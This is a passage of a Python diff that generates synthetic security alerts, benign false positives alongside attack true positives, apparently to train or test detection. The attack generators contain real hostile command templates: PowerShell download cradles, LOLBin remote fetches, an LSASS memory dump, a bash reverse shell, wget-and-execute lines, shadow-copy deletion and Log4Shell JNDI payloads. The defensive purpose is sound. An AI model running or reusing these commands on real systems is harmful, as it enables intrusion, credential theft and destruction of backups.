+    "Get-LocalGroupMember Administrators | Export-Clixml \\\\{fs}\\audit$\\{h}.xml",
+)
+ADMIN_ARGS = (
+    "",
+    " -Verbose",
+    " -Days {n}",
+    " -LogPath C:\\Windows\\Temp\\{w}.log",
+    " -Force",
+    " -Computer {h}",
+    " -Mode Audit",
+)
+ADMIN_MISC = (  # (rule, image, command line): benign use of binaries attackers also abuse
+    (
+        "Suspicious Certutil Usage",
+        "certutil.exe",
+        "certutil.exe -hashfile C:\\Installers\\{w}.msi SHA256",
+    ),
+    ("Suspicious Certutil Usage", "certutil.exe", "certutil.exe -urlcache * delete"),
+    ("Suspicious Certutil Usage", "certutil.exe", "certutil.exe -verify \\\\{fs}\\pki$\\{w}.cer"),
+    (
+        "Signed Binary Proxy Execution",
+        "rundll32.exe",
+        "rundll32.exe printui.dll,PrintUIEntry /in /n\\\\{fs}\\{w}-{n}",
+    ),
+    (
+        "Signed Binary Proxy Execution",
+        "rundll32.exe",
+        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,{n}",
+    ),
+    ("Reconnaissance Command Execution", "whoami.exe", "whoami.exe /upn"),
+    (
+        "Reconnaissance Command Execution",
+        "net.exe",
+        "net.exe use H: \\\\{fs}\\home$\\{u} /persistent:no",
+    ),
+    ("Reconnaissance Command Execution", "net.exe", "net.exe user {u} /domain"),
+    ("Reconnaissance Command Execution", "ipconfig.exe", "ipconfig.exe /all"),
+    ("Reconnaissance Command Execution", "systeminfo.exe", "systeminfo.exe /fo csv"),
+)
+
+
+def _admin_powershell(rng: Random, site: Site, host: Host) -> str:
+    """A script from the management share, or an inline one-liner, under ExecutionPolicy Bypass."""
+    values = {"fs": site.file_server, "h": host[0], "w": word(rng), "n": rng.randint(2, 90)}
+    if rng.random() < 0.3:
+        inline = rng.choice(ADMIN_INLINE).format(**values)
+        return (
+            f'powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "{inline}"'
+        )
+    share = rng.choice(
+        (
+            f"\\\\{site.file_server}\\scripts$",
+            f"\\\\mgmt\\scripts\\{word(rng)}",
+            "C:\\ProgramData\\Admin\\Scripts",
+        )
+    )
+    args = rng.choice(ADMIN_ARGS).format(**values)
+    script = f"{share}\\{rng.choice(ADMIN_SCRIPTS)}.ps1"
+    return f'powershell.exe -ExecutionPolicy Bypass -NoProfile -File "{script}"{args}'
+
+
+def admin_script(rng: Random, site: Site) -> Built:
+    """IT automation and admins: PowerShell with Bypass, certutil hashes, logon-script commands."""
+    host = _host(rng, site, 0.35)
+    account = rng.choice(("svc_sccm", "svc_ansible", f"adm_{rng.choice(site.users)}"))
+    user = SYSTEM if rng.random() < 0.5 else f"{site.netbios}\\{account}"
+    parent = rng.choice(ADMIN_PARENTS)
+    if rng.random() < 0.7:
+        cmd = _admin_powershell(rng, site, host)
+        return "Suspicious PowerShell Execution", _edr(rng, host, POWERSHELL, cmd, user, parent)
+    rule, image, template = rng.choice(ADMIN_MISC)
+    cmd = template.format(
+        fs=site.file_server, w=word(rng), n=rng.randint(1, 40), u=rng.choice(site.users)
+    )
+    logon = (
+        "cmd.exe",
+        f"C:\\Windows\\system32\\cmd.exe /c \\\\{site.netbios.lower()}.local\\NETLOGON\\logon.bat",
+    )
+    parent = logon if rule == "Reconnaissance Command Execution" else parent
+    return rule, _edr(rng, host, SYS32 + image, cmd, user, parent)
+
+
+# ---- web applications spawning helpers (FP) -----------------------------------------------------
+
+TOMCAT: Parent = (
+    "java",
+    "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dcatalina.base=/opt/tomcat "
+    "-Djava.io.tmpdir=/opt/tomcat/temp org.apache.catalina.startup.Bootstrap start",
+)
+HTTPD: Parent = ("httpd", "/usr/sbin/httpd -DFOREGROUND")
+PHP_FPM: Parent = ("php-fpm", "php-fpm: pool www")
+LINUX_WEB_PARENTS = (TOMCAT, HTTPD, PHP_FPM)
+LINUX_WEB_USERS = {"java": "tomcat", "httpd": "apache", "php-fpm": "www-data"}
+
+
+def _iis_pool(rng: Random) -> str:
+    return rng.choice(("DefaultAppPool", "Portal", "Intranet", f"{word(rng).title()}App"))
+
+
+def _w3wp(rng: Random, pool: str) -> Parent:
+    """The IIS worker process serving application pool ``pool``."""
+    return (
+        "w3wp.exe",
+        f'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "{pool}" -v "v4.0" -l '
+        f'"webengine4.dll" -a \\\\.\\pipe\\iisipm{guid(rng)[1:-1].lower()} -h '
+        f'"C:\\inetpub\\temp\\apppools\\{pool}\\{pool}.config" -w "" -m 0',
+    )
+
+
+def webapp_helper(rng: Random, site: Site) -> Built:
+    """Web applications that legitimately shell out: thumbnails, reports, PDF export."""
+    app, n, h = word(rng), rng.randint(1, 99999), hexs(rng, 16)
+    if rng.random() < 0.6:
+        host, parent = rng.choice(site.linux_web), rng.choice(LINUX_WEB_PARENTS)
+        cmd = rng.choice(
+            (
+                f"/bin/sh -c /opt/{app}/bin/generate_report.sh --id {n}",
+                f"sh -c /usr/bin/convert /var/www/uploads/{h}.jpg -resize 320x320 "
+                f"/var/www/thumbs/{h}.jpg",
+                f"/bin/sh -c /usr/bin/wkhtmltopdf /tmp/{app}-{n}.html /tmp/{app}-{n}.pdf",
+                f"sh -c git -C /var/www/{app} rev-parse HEAD",
+            )
+        )
+        user = LINUX_WEB_USERS[parent[0]]
+        return "Web Server Spawned Shell", _edr(rng, host, "/bin/sh", cmd, user, parent)
+    host, pool = rng.choice(site.iis_servers), _iis_pool(rng)
+    cmd = rng.choice(
+        (
+            f'cmd.exe /c "C:\\inetpub\\{app}\\bin\\export.bat" {n}',
+            f"cmd.exe /c C:\\inetpub\\{app}\\tools\\wkhtmltopdf.exe --quiet "
+            f"C:\\Windows\\Temp\\{h}.html C:\\Windows\\Temp\\{h}.pdf",
+        )
+    )
+    user = f"IIS APPPOOL\\{pool}"
+    return "Web Server Spawned Shell", _edr(rng, host, CMD, cmd, user, _w3wp(rng, pool))
+
+
+# ---- monitoring health checks (FP) --------------------------------------------------------------
+
+HEALTH_PATHS = words(
+    "/health /healthz /status /server-status /metrics /api/v1/health /actuator/health /ping "
+    "/ready /nginx_status /actuator/prometheus"
+)
+SENSITIVE_PATHS = ("/server-status", "/actuator/health", "/actuator/prometheus", "/nginx_status")
+
+
+def monitoring_waf(rng: Random, site: Site) -> Built:
+    """Nagios, Zabbix, Prometheus and cloud probes polling health endpoints through the WAF."""
+    client = (
+        rng.choice(site.monitors)[1] if rng.random() < 0.7 else rng.choice(site.world.cloud_ips)
+    )
+    path = rng.choice(HEALTH_PATHS)
+    args = rng.choice(("", "", "format=json", f"auto&t={rng.randint(10**9, 2 * 10**9)}"))
+    request = ("GET", path, args, rng.choice(MONITOR_UAS))
+    if path in SENSITIVE_PATHS:
+        return "Sensitive Path Access", _waf(rng, site, client, request, 200, "920440")
+    return "Suspicious User-Agent", _waf(rng, site, client, request, 200, "913101")
+
+
+def monitoring_ids(rng: Random, site: Site) -> Built:
+    """Monitoring agents with non-browser user agents polling internal services."""
+    target = rng.choice(site.windows_servers + site.linux_servers)
+    probe = f"/probe?target={target[0]}&module=http_2xx"  # Prometheus blackbox exporter
+    url = probe if rng.random() < 0.2 else rng.choice(HEALTH_PATHS)
+    vhost, ua = f"{target[0]}.{site.tenant}.internal", rng.choice(MONITOR_UAS)
+    http = _http(vhost, url, ua, "GET", 200, rng.randint(40, 9000))
+    dest = (target[1], rng.choice((80, 8080, 9100, 9090, 10050)))
+    return _ids(rng, ODD_UA_RULE, rng.choice(site.monitors)[1], dest, http, "web")
+
+
+# ---- SaaS and CDN traffic (FP) ------------------------------------------------------------------
+
+REGIONS = ("us-east-1", "eu-west-1", "eu-central-1", "us-west-2", "ap-southeast-2")
+
+
+def _saas_sni(rng: Random) -> str:
+    """Cloud hostnames look random too: CloudFront ids, API gateways, blob storage."""
+    return rng.choice(
+        (
+            f"d{''.join(rng.choices(BASE32[:26] + '0123456789', k=13))}.cloudfront.net",
+            f"{hexs(rng, 10)}.execute-api.{rng.choice(REGIONS)}.amazonaws.com",
+            f"{word(rng)}{rng.randint(1, 99)}.blob.core.windows.net",
+            f"{word(rng)}-{hexs(rng, 6)}.azureedge.net",
+            f"telemetry.{word(rng)}.io",
+            f"ingest.{rng.choice(('us', 'eu'))}.{word(rng)}cloud.com",
+        )
+    )
+
+
+def saas_tls(rng: Random, site: Site) -> Built:
+    """Business apps reaching newly seen SaaS and CDN hosts, some with non-browser TLS stacks."""
+    ja3 = rng.choice(site.world.common_ja3 if rng.random() < 0.75 else site.world.rare_ja3)
+    tls = (
+        "tls",
+        {
+            "sni": _saas_sni(rng),
+            "version": rng.choice(("TLS 1.2", "TLS 1.3", "TLS 1.3")),
+            "ja3": {"hash": ja3},
+        },
+    )
+    rule = TLS_RULE if rng.random() < 0.6 else JA3_RULE
+    src = _host(rng, site, 0.25)[1]
+    dest = (rng.choice(site.world.cloud_ips), 443)
+    return _ids(rng, rule, src, dest, tls, rng.choice(("web", "bulk")))
+
+
+def av_reputation_dns(rng: Random, site: Site) -> Built:
+    """Anti-virus cloud lookups encode file hashes in long DNS labels, like a tunnel would."""
+    rrname = rng.choice(
+        (
+            f"{hexs(rng, 40)}.{rng.randint(1, 4)}.f.{hexs(rng, 2)}.sophosxl.net",
+            f"{''.join(rng.choices(BASE32, k=52))}.avqs.mcafee.com",
+            f"{hexs(rng, 32)}.{hexs(rng, 8)}.e5.sk",
+            f"{hexs(rng, 56)}.hashlookup.{rng.choice(('sentinelone', 'crowdstrike'))}-cloud.net",
+        )
+    )
+    dns = ("dns", {"rrname": rrname, "rrtype": rng.choice(("A", "A", "TXT", "AAAA"))})
+    dest = (rng.choice(site.dns_servers)[1], 53)
+    return _ids(rng, LONG_DNS_RULE, _host(rng, site, 0.2)[1], dest, dns, "dns")
+
+
+# ---- developers running security tools against staging (FP) -------------------------------------
+
+NMAP_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
+NMAP_PROBES = ("/", "/HNAP1", "/evox/about", "/.git/HEAD", "/nmaplowercheck{n}")
+
+
+def _sqlmap_ua(rng: Random) -> str:
+    return f"sqlmap/1.{rng.randint(5, 8)}.{rng.randint(1, 12)}#stable (https://sqlmap.org)"
+
+
+def _staging_vhost(rng: Random, site: Site) -> str:
+    return f"{rng.choice(('stg', 'staging', 'dev', 'uat'))}-{word(rng)}.{site.tenant}.internal"
+
+
+def dev_tools_ids(rng: Random, site: Site) -> Built:
+    """A developer's nmap or sqlmap run against a staging server."""
+    dev, target = rng.choice(site.dev_workstations), rng.choice(site.staging)
+    if rng.random() < 0.5:
+        rule, ua = NMAP_UA_RULE, NMAP_UA
+        url = rng.choice(NMAP_PROBES).format(n=rng.randint(10**9, 2 * 10**9))
+    else:
+        rule, ua, url = SQLMAP_RULE, _sqlmap_ua(rng), f"{web_path(rng)}?{_args(rng, sqli(rng))}"
+    status = rng.choice((200, 404, 500, 302))
+    http = _http(_staging_vhost(rng, site), url, ua, "GET", status, rng.randint(0, 20000))
+    return _ids(rng, rule, dev[1], (target[1], rng.choice((80, 443, 8080, 8443))), http, "web")
+
+
+def dev_tools_waf(rng: Random, site: Site) -> Built:
+    """sqlmap or Burp from a dev workstation: real payloads, sometimes answered 200, on staging."""
+    dev = rng.choice(site.dev_workstations)
+    rule, crs, _, make = rng.choice(PROBES[:3])
+    ua = (
+        _sqlmap_ua(rng)
+        if rule == "SQL Injection Attempt" and rng.random() < 0.6
+        else browser_ua(rng)
+    )
+    request = (rng.choice(("GET", "POST")), web_path(rng), _args(rng, make(rng)), ua)
+    body = _waf(rng, site, dev[1], request, rng.choice((200, 200, 500, 403, 404)), crs)
+    body["host"]["name"] = rng.choice(site.staging)[0]
+    body["request"]["host"] = _staging_vhost(rng, site)
+    return rule, body
+
+
+def dev_tools_edr(rng: Random, site: Site) -> Built:
+    """nmap, sqlmap and Burp Suite launched on a developer's workstation."""
+    dev, target, user = (
+        rng.choice(site.dev_workstations),
+        rng.choice(site.staging),
+        _user(rng, site),
+    )
+    roll = rng.random()
+    if roll < 0.5:
+        exe = "C:\\Program Files (x86)\\Nmap\\nmap.exe"
+        cmd = rng.choice(
+            (
+                f"nmap -sV -p 1-{rng.choice((1024, 10000, 65535))} {target[1]}",
+                f"nmap -sC -sV -oX scan_{word(rng)}.xml {target[0]}",
+                f"nmap -T4 -F {target[1].rsplit('.', 1)[0]}.0/24",
+            )
+        )
+    elif roll < 0.8:
+        exe = "C:\\Python311\\python.exe"
+        cmd = (
+            f'python.exe sqlmap.py -u "https://{_staging_vhost(rng, site)}{web_path(rng)}?'
+            f'{rng.choice(URL_PARAMS)}=1" --batch --level {rng.randint(1, 5)} '
+            f"--risk {rng.randint(1, 3)}"
+        )
+    else:
+        exe = "C:\\Program Files\\BurpSuiteCommunity\\jre\\bin\\javaw.exe"
+        cmd = (
+            f'"{exe}" -Xmx4g -jar "C:\\Program Files\\BurpSuiteCommunity\\burpsuite_community.jar"'
+        )
+    parent = rng.choice(
+        (
+            ("WindowsTerminal.exe", "WindowsTerminal.exe"),
+            ("Code.exe", f"Code.exe --type=ptyHost {hexs(rng, 8)}"),
+            CMD_PARENT,
+            EXPLORER,
+        )
+    )
+    return "Hacktool Execution", _edr(rng, dev, exe, cmd, user, parent)
+
+
+# ---- legitimate input that looks like an attack (FP) --------------------------------------------
+
+BENIGN_TRIGGERS = (  # (WAF rule, CRS id, arguments) that real users send
+    ("SQL Injection Attempt", "942100", "name={last}&first={first}"),
+    ("SQL Injection Attempt", "942100", "q=select+a+plan+for+{n}+users"),
+    ("SQL Injection Attempt", "942130", "company=Credit+Union+of+{city}&select=all"),
+    ("SQL Injection Attempt", "942440", "comment=Great+service+--+will+order+again"),
+    ("SQL Injection Attempt", "942100", "search={first}%27s+{n}+order"),
+    ("Path Traversal Attempt", "930100", "path=../assets/img/logo-{n}.png"),
+    ("Cross-Site Scripting Attempt", "941100", "bio=I+love+%3Cb%3Ebold%3C%2Fb%3E+text+{n}"),
+    ("Remote Code Execution Attempt", "932100", "note=meeting+at+{n}%3B+bring+laptop+%26+charger"),
+)
+IRISH_NAMES = ("O%27Brien", "O%27Neil", "D%27Angelo", "O%27Connor", "D%27Souza", "L%27Oreal")
+CITIES = ("Texas", "Ohio", "Leeds", "Dublin", "Toronto", "Munich")
+
+
+def benign_waf_trigger(rng: Random, site: Site) -> Built:
+    """Customers with apostrophes in their names and SQL words in their searches (answered 200)."""
+    rule, crs, template = rng.choice(BENIGN_TRIGGERS)
+    args = template.format(
+        last=rng.choice(IRISH_NAMES),
+        first=rng.choice(site.users).split(".")[0],
+        n=rng.randint(2, 500),
+        city=rng.choice(CITIES),
+    )
+    client = rng.choice(site.home_ips)[0]
+    request = (rng.choice(("GET", "POST")), web_path(rng), args, browser_ua(rng))
+    return rule, _waf(rng, site, client, request, 200 if rng.random() < 0.8 else 403, crs)
+
+
+# ---- authentication noise (FP) ------------------------------------------------------------------
+
+AUTH_TARGETS = {
+    "vpn": "vpn-gw-{n:02d}",
+    "owa": "owa-{n:02d}",
+    "sso": "adfs-{n:02d}",
+    "ssh": "bastion-{n:02d}",
+}
+
+
+# Methods each service accepts; spraying and typos only concern the password-based ones.
+AUTH_METHODS = {
+    "vpn": ("password", "mfa"),
+    "owa": ("password", "ntlm"),
+    "sso": ("password", "kerberos", "ntlm", "mfa"),
+    "ssh": ("password", "ssh_key"),
+}
+
+
+def _target(rng: Random, service: str) -> str:
+    return AUTH_TARGETS[service].format(n=rng.randint(1, 3))
+
+
+def password_typo(rng: Random, site: Site) -> Built:
+    """A user mistypes a password a few times, often succeeding afterwards."""
+    service = rng.choice(("vpn", "owa", "sso", "sso"))
+    method = rng.choice(AUTH_METHODS[service])
+    client = (
+        rng.choice(site.home_ips)
+        if service == "vpn" or rng.random() < 0.3
+        else (_host(rng, site, 0)[1], site.country)
+    )
+    failures = rng.randint(2, 9)
+    outcome = "success" if rng.random() < 0.35 else "failure"
+    rule = "Brute Force Attempt" if failures >= 6 else "Multiple Failed Logins"
+    auth = (service, method, outcome, failures, rng.choice((1, 1, 1, 2)))
+    return rule, _auth(site, rng.choice(site.users), client, _target(rng, service), auth)
+
+
+def expired_service_account(rng: Random, site: Site) -> Built:
+    """A service account keeps retrying with its old password after a rotation."""
+    server = rng.choice(site.windows_servers + site.linux_servers)
+    service = rng.choice(("sso", "sso", "owa", "ssh"))
+    auth = (service, rng.choice(AUTH_METHODS[service]), "failure", rng.randint(20, 600), 1)
+    user, client = rng.choice(site.service_accounts), (server[1], site.country)
+    return "Brute Force Attempt", _auth(site, user, client, _target(rng, service), auth)
+
+
+def internet_ssh_noise(rng: Random, site: Site) -> Built:
+    """Internet background noise: bots guessing root/admin on exposed SSH, never succeeding."""
+    ip, country = rng.choice(site.world.attackers)
+    user = rng.choice(
+        ("root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "pi")
+    )
+    auth = ("ssh", "password", "failure", rng.randint(40, 3000), rng.randint(2, 40))
+    return "Brute Force Attempt", _auth(site, user, (ip, country), _target(rng, "ssh"), auth)
+
+
+# ---- encoded PowerShell download cradles (TP) ---------------------------------------------------
+
+CRADLES = (
+    "IEX (New-Object Net.WebClient).DownloadString('{url}')",
+    "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','{ua}');"
+    "IEX($wc.DownloadString('{url}'))",
+    "Invoke-Expression (Invoke-WebRequest -UseBasicParsing -Uri '{url}').Content",
+    "[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;"
+    "iex(iwr '{url}' -UseBasicParsing)",
+    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String((New-Object Net.WebClient)."
+    "DownloadString('{url}')));IEX (New-Object IO.StreamReader(New-Object IO.Compression."
+    "GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
+    "(New-Object Net.WebClient).DownloadFile('{url}',\"$env:TEMP\\{name}.exe\");"
+    'Start-Process "$env:TEMP\\{name}.exe"',
+    "Start-BitsTransfer -Source '{url}' -Destination \"$env:APPDATA\\{name}.exe\";"
+    '& "$env:APPDATA\\{name}.exe"',
+)
+ENCODED_FLAGS = (
+    "-nop -w hidden -enc",
+    "-NoP -NonI -W Hidden -Exec Bypass -EncodedCommand",
+    "-noni -nop -w 1 -e",
+    "-ExecutionPolicy Bypass -WindowStyle Hidden -ec",
+    "-NoProfile -EncodedCommand",
+)
+POWERSHELL_LAUNCH = ("powershell.exe", "powershell", POWERSHELL, f'"{POWERSHELL}"')
+
+
+def _office_parent(rng: Random, account: str) -> Parent:
+    """An Office application opening a macro document from the user's Downloads."""
+    app = rng.choice(("WINWORD.EXE", "EXCEL.EXE"))
+    ext = "docm" if app == "WINWORD.EXE" else "xlsm"
+    lure = rng.choice(("Invoice", "Order", "Resume", "Payment", "Remittance", "Statement"))
+    doc = f"C:\\Users\\{account}\\Downloads\\{lure}_{rng.randint(1000, 99999)}.{ext}"
+    return app, f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\{app}" /n "{doc}"'
+
+
+def _attack_parent(rng: Random, account: str) -> Parent:
+    """Where attacker commands come from: macros, scripts, WMI, scheduled tasks, a shell."""
+    roll = rng.random()
+    if roll < 0.35:
+        return _office_parent(rng, account)
+    if roll < 0.5:
+        js = f"C:\\Users\\{account}\\Downloads\\{word(rng)}_{rng.randint(1, 999)}.js"
+        return "wscript.exe", f'"C:\\Windows\\System32\\WScript.exe" "{js}"'
+    return rng.choice((WMIPRVSE, SCHEDULER, CMD_PARENT, EXPLORER, ("mshta.exe", "mshta.exe")))
+
+
+def _victim(rng: Random, site: Site) -> tuple[Host, str, str, Parent]:
+    """(host, account, DOMAIN\\account, parent) of a user session an attacker runs under."""
+    account = rng.choice(site.users)
+    host = _host(rng, site, 0.15)
+    return host, account, f"{site.netbios}\\{account}", _attack_parent(rng, account)
+
+
+def encoded_powershell(rng: Random, site: Site) -> Built:
+    """Base64 (UTF-16LE) PowerShell download cradle, as malware droppers launch it."""
+    url = payload_url(rng, site, rng.choice(("ps1", "txt", "png", "gif", "exe", "dat")))
+    script = rng.choice(CRADLES).format(url=url, ua=browser_ua(rng), name=word(rng))
+    cmd = f"{rng.choice(POWERSHELL_LAUNCH)} {rng.choice(ENCODED_FLAGS)} {encode_powershell(script)}"
+    host, _, user, parent = _victim(rng, site)
+    return "Suspicious PowerShell Execution", _edr(rng, host, POWERSHELL, cmd, user, parent)
+
+
+# ---- living-off-the-land binaries (TP) ----------------------------------------------------------
+
+
+def lolbin(rng: Random, site: Site) -> Built:
+    """certutil, mshta, rundll32 and regsvr32 fetching or running remote code."""
+    host, account, user, parent = _victim(rng, site)
+    drop = f"C:\\Users\\Public\\{word(rng)}.{rng.choice(('exe', 'dll', 'txt'))}"
+    roll = rng.random()
+    if roll < 0.35:
+        cmd = rng.choice(
+            (
+                f"certutil.exe -urlcache -split -f {payload_url(rng, site, 'exe')} {drop}",
+                f"certutil -urlcache -f {payload_url(rng, site, 'txt')} %TEMP%\\{word(rng)}.b64",
+                f"certutil.exe -decode C:\\Users\\Public\\{hexs(rng, 6)}.txt {drop}",
+            )
+        )
+        return "Suspicious Certutil Usage", _edr(
+            rng, host, SYS32 + "certutil.exe", cmd, user, parent
+        )
+    if roll < 0.55:
+        cmd = rng.choice(
+            (
+                f"mshta.exe {payload_url(rng, site, 'hta')}",
+                'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop '
+                f'-w hidden -c iex(iwr \'{payload_url(rng, site, "ps1")}\')"":close")',
+            )
+        )
+        return PROXY_RULE, _edr(rng, host, SYS32 + "mshta.exe", cmd, user, parent)
+    if roll < 0.8:
+        cmd = rng.choice(
+            (
+                'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
+                f'GetObject("script:{payload_url(rng, site, "sct")}")',
+                f"rundll32.exe C:\\Users\\{account}\\AppData\\Local\\Temp\\"
+                f"{hexs(rng, 8)}.dll,DllRegisterServer",
+                f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "
+                f"{rng.randrange(500, 1200, 4)} C:\\Windows\\Temp\\{word(rng)}.dmp full",
+            )
+        )
+        return PROXY_RULE, _edr(rng, host, SYS32 + "rundll32.exe", cmd, user, parent)
+    cmd = f"regsvr32.exe /s /n /u /i:{payload_url(rng, site, 'sct')} scrobj.dll"
+    return PROXY_RULE, _edr(rng, host, SYS32 + "regsvr32.exe", cmd, user, parent)
+
+
+# ---- webshells (TP) -----------------------------------------------------------------------------
+
+WINDOWS_RECON = (
+    "whoami",
+    "whoami /priv",
+    "net user",
+    "net localgroup administrators",
+    "ipconfig /all",
+    "systeminfo",
+    "tasklist /v",
+    'net group "domain admins" /domain',
+    "quser",
+    "netstat -ano",
+)
+LINUX_RECON = (
+    "id",
+    "uname -a",
+    "cat /etc/passwd",
+    "ls -la /var/www",
+    "ps aux",
+    "ifconfig",
+    "cat /proc/version",
+    "find / -perm -4000 -type f 2>/dev/null",
+)
+
+
+def webshell(rng: Random, site: Site) -> Built:
+    """Commands run through a webshell: the web server process spawns a shell doing recon."""
+    if rng.random() < 0.5:
+        recon = rng.choice(WINDOWS_RECON)
+        cmd = rng.choice(
+            (
+                f"cmd.exe /c {recon}",
+                f'cmd /c "cd /d C:\\inetpub\\wwwroot&{recon}&echo [S]&cd&echo [E]"',
+                f"cmd.exe /c {recon} > C:\\inetpub\\wwwroot\\{hexs(rng, 4)}.txt",
+            )
+        )
+        rule = (
+            "Reconnaissance Command Execution" if rng.random() < 0.4 else "Web Server Spawned Shell"
+        )
+        pool = _iis_pool(rng)
+        host = rng.choice(site.iis_servers)
+        return rule, _edr(rng, host, CMD, cmd, f"IIS APPPOOL\\{pool}", _w3wp(rng, pool))
+    parent = rng.choice(LINUX_WEB_PARENTS)
+    recon = rng.choice(LINUX_RECON)
+    tmp = f"/tmp/.{hexs(rng, 5)}"
+    cmd = rng.choice(
+        (
+            f"/bin/sh -c {recon}",
+            f"sh -c {recon}",
+            f"/bin/sh -c wget -q {payload_url(rng, site, 'sh')} -O {tmp}; chmod +x {tmp}; {tmp}",
+            f"/bin/bash -c bash -i >& /dev/tcp/{rng.choice(site.world.attackers)[0]}/"
+            f"{rng.choice((443, 4444, 8443))} 0>&1",
+        )
+    )
+    host, user = rng.choice(site.linux_web), LINUX_WEB_USERS[parent[0]]
+    return "Web Server Spawned Shell", _edr(rng, host, "/bin/sh", cmd, user, parent)
+
+
+# ---- ransomware preparation (TP) ----------------------------------------------------------------
+
+
+def ransomware_prep(rng: Random, site: Site) -> Built:
+    """Deleting shadow copies and backup catalogs before encryption."""
+    host = _host(rng, site, 0.5)
+    cmd = rng.choice(
+        (
+            "vssadmin.exe delete shadows /all /quiet",
+            "vssadmin delete shadows /All /Quiet",
+            "wmic.exe shadowcopy delete /nointeractive",
+            "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
+            "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0",
+        )
+    )
+    folder = rng.choice(("C:\\ProgramData", "C:\\Users\\Public", "C:\\Windows\\Temp"))
+    dropper = f"{folder}\\{word(rng)}.exe"
+    parent = rng.choice(
+        (
+            CMD_PARENT,
+            (dropper.rsplit("\\", 1)[1], f'"{dropper}"'),
+            ("powershell.exe", f"powershell.exe -nop -w hidden -c & '{dropper}'"),
+        )
+    )
+    exe = SYS32 + cmd.split(maxsplit=1)[0].removesuffix(".exe") + ".exe"
+    user = rng.choice((SYSTEM, _user(rng, site), f"{site.netbios}\\adm_{rng.choice(site.users)}"))
+    return "Shadow Copy Manipulation", _edr(rng, host, exe, cmd, user, parent)
+
+
+# ---- web attacks from the internet (TP) ---------------------------------------------------------
+
+
+def web_injection(rng: Random, site: Site) -> Built:
+    """SQL injection or path traversal from the internet that the application answered 200."""
+    ip = rng.choice(site.world.attackers)[0]
+    rule, crs, _, make = rng.choice(PROBES[:2])
+    ua = browser_ua(rng) if rng.random() < 0.5 else rng.choice(C2_UAS[-3:])
+    request = (rng.choice(("GET", "GET", "POST")), web_path(rng), _args(rng, make(rng)), ua)
+    return rule, _waf(rng, site, ip, request, 200, crs)
+
+
+def _log4j_callback(rng: Random, site: Site) -> str:
+    """Attacker LDAP servers, often with a JNDIExploit base64 command in the path."""
+    host = f"{rng.choice(site.world.attackers)[0]}:{rng.choice((389, 1389, 1099, 443))}"
+    if rng.random() < 0.4:
+        command = f"wget http://{rng.choice(site.world.payload_hosts)}/{word(rng)}.sh -O-|sh"
+        return f"{host}/Basic/Command/Base64/{base64.b64encode(command.encode()).decode()}"
+    return f"{host}/{rng.choice(('a', 'Exploit', 'o', hexs(rng, 6)))}"
+
+
+def log4shell_waf(rng: Random, site: Site) -> Built:
+    """Log4Shell exploitation from the internet in the user agent, URL or arguments."""
+    ip, payload = rng.choice(site.world.attackers)[0], jndi(rng, _log4j_callback(rng, site))
+    place = rng.random()
+    uri = f"/{quote(payload, safe='')}" if place < 0.2 else web_path(rng)
+    args = _args(rng, payload) if 0.2 <= place < 0.5 else ""
+    ua = payload if place >= 0.5 else browser_ua(rng)
+    status, request = rng.choice((200, 200, 404, 400, 302)), ("GET", uri, args, ua)
+    return "Log4j JNDI Injection Attempt", _waf(rng, site, ip, request, status, "944150")
+
+
+def log4shell_ids(rng: Random, site: Site) -> Built:
+    """Log4Shell exploitation seen by the IDS in front of the web servers."""
+    ip, payload = rng.choice(site.world.attackers)[0], jndi(rng, _log4j_callback(rng, site))
+    in_url = rng.random() < 0.4
+    url = f"/?{_args(rng, payload)}" if in_url else web_path(rng)
+    ua = browser_ua(rng) if in_url else payload
+    status = rng.choice((200, 404, 400, 302))
+    http = _http(rng.choice(site.vhosts), url, ua, "GET", status, rng.randint(0, 9000))
+    dest = (rng.choice(site.web_servers)[1], rng.choice((80, 443, 8080)))
+    return _ids(rng, LOG4J_RULE, ip, dest, http, "web")
+
+
+# ---- account compromise (TP) --------------------------------------------------------------------
+
+
+def password_spray(rng: Random, site: Site) -> Built:
+    """One password tried against many accounts from one external IP, until one works."""
+    ip, country = rng.choice(site.world.attackers)
+    service = rng.choice(("vpn", "owa", "sso"))
+    method = "ntlm" if service == "owa" and rng.random() < 0.5 else "password"
+    outcome = "success" if rng.random() < 0.85 else "failure"
+    auth = (service, method, outcome, rng.randint(25, 500), rng.randint(12, 260))
+    rule = "Password Spraying Detected" if rng.random() < 0.6 else "Brute Force Attempt"
+    return rule, _auth(site, rng.choice(site.users), (ip, country), _target(rng, service), auth)
+
+
+# ---- covert channels (TP) -----------------------------------------------------------------------
+
+
+def dns_tunnel(rng: Random, site: Site) -> Built:
+    """Data exfiltrated in long base32/hex labels under a rare domain, over TXT/NULL queries."""
+    domain = rng.choice(site.world.tunnel_domains)
+    if rng.random() < 0.6:
+        data = "".join(rng.choices(BASE32, k=rng.randint(40, 150)))
+    else:
+        data = hexs(rng, rng.randint(30, 120))
+    # DNS labels hold at most 63 characters, so tunnels split the payload into several.
+    labels = ".".join(data[i : i + 63] for i in range(0, len(data), 63))
+    dns = (
+        "dns",
+        {
+            "rrname": f"{labels}.{domain}",
+            "rrtype": rng.choice(("TXT", "TXT", "NULL", "CNAME", "MX")),
+        },
+    )
+    return _ids(
+        rng,
+        LONG_DNS_RULE,
+        _host(rng, site, 0.2)[1],
+        (rng.choice(site.dns_servers)[1], 53),
+        dns,
+        "dns",
+    )
+
+
+BEACON_PATHS = (
+    "/jquery-3.3.1.min.js",
+    "/__utm.gif",
+    "/submit.php",
+    "/ga.js",
+    "/pixel.gif",
+    "/api/v1/{h}",
+    "/updates/check",
+    "/wp-content/{h}.php",
+    "/{h}",
+)
+
+
